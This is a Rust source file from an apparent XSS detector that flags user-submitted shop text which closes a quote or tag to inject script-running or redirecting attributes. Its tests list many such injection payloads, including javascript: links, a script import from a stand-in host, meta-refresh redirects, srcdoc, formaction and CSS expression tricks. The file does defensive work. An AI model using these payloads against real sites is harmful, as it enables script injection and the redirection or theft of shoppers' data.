//! A value that stands in a tag already: in the shop's own markup, or in what an earlier text left open.

use std::ops::Range;

use super::names::URL_ATTRIBUTES;
use super::{
    Names, Tag, decoded, has_script_scheme, is_in, script_url, style_runs_script, tells_the_address,
};

/// How far behind a quote attributes are read.
const READ: usize = 4 * 1024;

/// Where an address takes the reader, or what the page is made of.
const LEADING: [&str; 5] = ["href", "src", "action", "formaction", "xlink:href"];

/// Attributes that run script, or lead elsewhere, of a value that began in a tag.
pub(super) fn attributes(value: &[u8]) -> Option<Range<usize>> {
    memchr::memchr(b'=', value)?;
    // The shop's markup stands before the value; a tag of its own is read as one. A `<` that opens none stands in an attribute.
    let opens = |at: &usize| {
        let next = value.get(at + 1..).map(|rest| rest.strip_prefix(b"/").unwrap_or(rest));
        next.and_then(<[u8]>::first).is_some_and(u8::is_ascii_alphabetic)
    };
    let mut from = 0;
    loop {
        let rest = value.get(from..).unwrap_or_default();
        let tag = memchr::memchr_iter(b'<', rest).map(|at| from + at).find(opens);
        // In an attribute a tag is text, and what ends the attribute may stand behind it.
        let found = between_tags(value, from..tag.unwrap_or(value.len()));
        let Some(tag) = tag.filter(|_| found.is_none()) else { return found };
        let mut reader = Tag::at(value, tag + 1);
        reader.read_to_end();
        from = reader.at;
    }
}

/// Behind the first quote of either kind further attributes begin, and at the very beginning.
fn between_tags(value: &[u8], part: Range<usize>) -> Option<Range<usize>> {
    let text = value.get(part.clone())?;
    memchr::memchr(b'=', text)?;
    let quotes = [b'"', b'\''].into_iter().filter_map(|quote| {
        let at = memchr::memchr(quote, text)?;
        Some((at + 1, true))
    });
    let begins = (part.start == 0).then_some((0, false));
    begins.into_iter().chain(quotes).find_map(|(start, left_string)| {
        let end = text.len().min(start + READ);
        let mut reader = Tag::at(text.get(..end)?, start);
        let behind = text.get(start..end).unwrap_or_default();
        let start = part.start + start;
        leads_away(&mut reader, behind, left_string).then(|| start..value.len().min(start + 64))
    })
}

/// A field goes with a form of the page's, or its button sends it elsewhere (HTML 4.10.18.6). `form` is a word, too: an id stands behind it
/// at once, as `at_once` says of the text.
fn joins_a_form(at_once: bool, name: &[u8], value: &[u8]) -> bool {
    if is_in(&["formmethod", "formtarget", "formenctype"], name) {
        return !value.is_empty();
    }
    let is_id =
        !value.is_empty() && value.iter().all(|byte| byte.is_ascii_alphanumeric() || b"-_".contains(byte));
    at_once && is_id && name.eq_ignore_ascii_case(b"form")
}

/// `left_string`: a quote was closed first, so that an address alone tells.
fn leads_away(reader: &mut Tag<'_>, text: &[u8], left_string: bool) -> bool {
    // Once: a text may have as many of these words as it has room for.
    let at_once = left_string && text.windows(5).any(|word| word.eq_ignore_ascii_case(b"form="));
    reader.any_attribute(Names::OfBrowsers, |name, value, is_open| {
        let mut room = Vec::new();
        let value = decoded(value, &mut room);
        let address = is_in(&URL_ATTRIBUTES, name);
        let runs = address && (script_url(value).is_some() || has_script_scheme(value));
        let leads = is_in(&LEADING, name) && left_string && is_foreign(value) && !is_open;
        let acts = is_in(&["srcdoc", "http-equiv"], name);
        let style = name.eq_ignore_ascii_case(b"style") && style_runs_script(value);
        // What a page's address holds goes to whoever serves the picture (Referrer Policy, section 3.8).
        let tells = left_string && name.eq_ignore_ascii_case(b"referrerpolicy") && tells_the_address(value);
        let joins = left_string && joins_a_form(at_once, name, value);
        runs || leads || style || tells || joins || (acts && !value.is_empty())
    })
}

/// `//evil.example/`, `https:\\evil.example`.
fn is_foreign(value: &[u8]) -> bool {
    let value = value.trim_ascii_start();
    let begins = |scheme: &[u8]| {
        value.get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme))
            && value.len() > scheme.len() + 2
    };
    let slashes = value.iter().take_while(|byte| matches!(byte, b'/' | b'\\')).count();
    begins(b"http:") || begins(b"https:") || (slashes > 1 && value.len() > slashes)
}

#[cfg(test)]
mod tests {
    use crate::xss::detect as detect_in;

    fn detect(value: &[u8]) -> Option<std::ops::Range<usize>> {
        detect_in(value, false)
    }

    /// Two reviews made one tag of the page between them: the second opened it and a quote, the first closed that.
    #[test]
    fn no_two_values_make_a_tag_between_them() {
        for text in [
            "' href=javascript:import('http://e.x/x.js') style=position:fixed;inset:0>Our size guide</a>",
            "' http-equiv=refresh content=0;url=//e.x/cart>",
            "' href=javascript:x()",
            "' srcdoc='x'",
            "\" formaction=javascript:x() type=image src=x \"",
            "\" xlink:href=java&#115;cript:x() ",
            "' x='<' href=javascript:x() y='",
            "' x='</' href=javascript:x() y='",
            "<b>\" href=javascript:name x=\"",
            "<b>hi</b>' href=javascript:name x='",
            "<b title='a'>\" href=//e.x/ x=\"",
            "<b>\" http-equiv=refresh content=0;url=//e.x x=\"",
            "<i><b>\" style=\"width:expression(x)",
            "Lovely. <a x='",
            "\" referrerpolicy=unsafe-url srcset=/x.png x=\"",
            "\" form=basket x=\"",
            "' form=basket name=qty value=99 x='",
            "\" formmethod=get x=\"",
            "\" FORMTARGET=_blank x=\"",
            "Lovely. <meta x='",
            "Lovely. <base x=\"and so on",
        ] {
            assert!(detect(text.as_bytes()).is_some(), "{text}");
        }
        for text in [
            "Mugs 'Peat' for 5 < 6 and it's \"good\"",
            "<a href=\"/size\" title='guide'>Size guide</a> for \"href\" fans",
            "I <b>love</b> it, 5\" wide = fine",
            "a 'quote' with src=/images/mug.jpg",
            "<p>5\" tall</p><a title=\"a > b\" href=\"https://a.example/\">x</a>",
            "<p>\"Peat\" is <a href='https://a.example/'>here</a></p> and it's 5\" wide",
            "x <y and it's z",
            "the \"A4\" form = good, and it's \"fine\"",
            "It's the form that counts: 5\" and form",
        ] {
            assert_eq!(detect(text.as_bytes()), None, "{text}");
        }
    }
}
